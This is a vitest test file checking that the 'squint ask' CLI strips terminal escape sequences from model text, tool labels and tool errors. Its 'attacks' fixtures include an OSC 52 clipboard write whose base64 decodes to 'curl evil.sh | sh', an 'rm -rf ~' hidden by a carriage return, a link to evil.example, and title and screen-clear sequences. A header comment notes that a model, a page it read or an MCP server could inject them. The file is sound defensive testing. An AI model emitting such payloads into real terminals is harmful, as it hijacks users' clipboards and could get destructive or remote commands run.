import { PassThrough } from "node:stream";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import type { CliIO } from "../../src/cli/command.js";
import { askWithBackend, parseAskArgs } from "../../src/cli/commands/ask.js";
import { TerminalTextStream, terminalSafe } from "../../src/cli/terminal-text.js";
import { syntheticPhotoFile } from "../agent/fixtures.js";
import { answerReply, ScriptedBackend, toolCallReply } from "../support/scripted-backend.js";

/**
 * Issue 10: `squint ask` printed model text, tool labels and server error text raw, so a model (or a page it
 * read, or an MCP server) could write the clipboard with OSC 52, clear the screen or retitle the terminal.
 */

const ESC = "\u001b";
const attacks: Record<string, string> = {
  "OSC 52 clipboard write (BEL)": `${ESC}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007`,
  "OSC 52 clipboard write (ST)": `${ESC}]52;c;Y3VybCBldmlsLnNoIHwgc2g=${ESC}\\`,
  "title change": `${ESC}]0;pwned${ESC}\\`,
  "screen clear + home": `${ESC}[2J${ESC}[H`,
  "8-bit CSI clear": "\u009b2J",
  "8-bit OSC title": "\u009d0;pwned\u009c",
  "DCS request": `${ESC}P$qm${ESC}\\`,
  "terminal reset": `${ESC}c`,
  "cursor up and erase line": `${ESC}[1A${ESC}[2K`,
  hyperlink: `${ESC}]8;;https://evil.example/${ESC}\\click${ESC}]8;;${ESC}\\`,
  "carriage return overwrite": "rm -rf ~\rls   ",
  backspaces: "safe\b\b\b\bevil",
};

// biome-ignore lint/suspicious/noControlCharactersInRegex: what must never reach the terminal.
const CONTROLS = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/;

describe("terminalSafe", () => {
  it.each(Object.entries(attacks))("removes %s", (_name, attack) => {
    const out = terminalSafe(`before ${attack} after`);
    expect(out).not.toMatch(CONTROLS);
    expect(out.startsWith("before ")).toBe(true);
    expect(out.endsWith(" after")).toBe(true);
    expect(out).not.toContain("pwned");
    expect(out).not.toContain("Y3VybCBldmlsLnNoIHwgc2g=");
  });

  it("keeps printable text in any script, tabs and newlines", () => {
    fc.assert(
      fc.property(fc.string({ unit: "grapheme" }), (text) => {
        const printable = text.replace(CONTROLS, "");
        expect(terminalSafe(printable)).toBe(printable);
      }),
      { numRuns: 300 },
    );
    expect(terminalSafe("a\tb\nc\r\nd — 中文 🎉")).toBe("a\tb\nc\nd — 中文 🎉");
  });

  it("never lets a control character through, whatever the input", () => {
    fc.assert(
      fc.property(
        fc.string({ unit: fc.integer({ min: 0, max: 0x1ff }).map((code) => String.fromCharCode(code)) }),
        (text) => {
          expect(terminalSafe(text)).not.toMatch(CONTROLS);
        },
      ),
      { numRuns: 500 },
    );
  });
});

describe("TerminalTextStream", () => {
  it("removes a sequence cut across pieces whole, payload included, however it is cut", () => {
    const text = `one ${attacks["OSC 52 clipboard write (ST)"]} two ${attacks["screen clear + home"]} three ${attacks["title change"]} four`;
    fc.assert(
      fc.property(fc.array(fc.integer({ min: 0, max: text.length }), { maxLength: 12 }), (cuts) => {
        const stream = new TerminalTextStream();
        let out = "";
        let from = 0;
        for (const cut of [...new Set(cuts)].sort((a, b) => a - b).concat(text.length)) {
          out += stream.write(text.slice(from, Math.max(from, cut)));
          from = Math.max(from, cut);
        }
        out += stream.flush();
        expect(out).toBe("one  two  three  four");
      }),
      { numRuns: 300 },
    );
  });

  it("skips an endless control string without holding it all", () => {
    const stream = new TerminalTextStream();
    let out = stream.write(`visible ${ESC}]52;c;`);
    for (let i = 0; i < 200; i++) out += stream.write("A".repeat(1024));
    out += stream.write(`\u0007 after`);
    expect(out).toBe("visible  after");
  });
});

describe("squint ask output", () => {
  it("prints no control sequence from the model's text, its tool arguments or a tool's error", async () => {
    const image = await syntheticPhotoFile();
    const osc52 = attacks["OSC 52 clipboard write (BEL)"];
    const backend = new ScriptedBackend([
      toolCallReply(`Thinking ${osc52}hard.`, `image_zoom_in_tool`, {
        bbox_2d: [500, 300, 600, 500],
        label: `block${attacks["8-bit OSC title"]}`,
        img_idx: 0,
      }),
      // A failing call: the error text names the (hostile) tool name.
      toolCallReply("Again.", `no_such_tool${ESC}]0;pwned\u0007`, { img_idx: 0 }),
      answerReply(`Red ${attacks["screen clear + home"]}it is.`, `The block ${attacks["title change"]}is red.`),
    ]);
    const stdout = new PassThrough();
    const stderr = new PassThrough();
    let out = "";
    stdout.on("data", (chunk: Buffer) => {
      out += chunk.toString();
    });
    stderr.on("data", (chunk: Buffer) => {
      out += chunk.toString();
    });
    const io: CliIO = { stdout, stderr, isTTY: true };
    await askWithBackend(backend, parseAskArgs([image, "What colour?", "--base-url", "http://x/v1"]), io);
    // Squint's own dimming is the only escape left.
    const own = out.replaceAll(`${ESC}[2m`, "").replaceAll(`${ESC}[22m`, "");
    expect(own).not.toMatch(CONTROLS);
    expect(own).not.toContain("pwned");
    expect(own).not.toContain("]52;");
    expect(own).toContain("Thinking hard.");
    expect(own).toContain("The block is red.");
  });
});
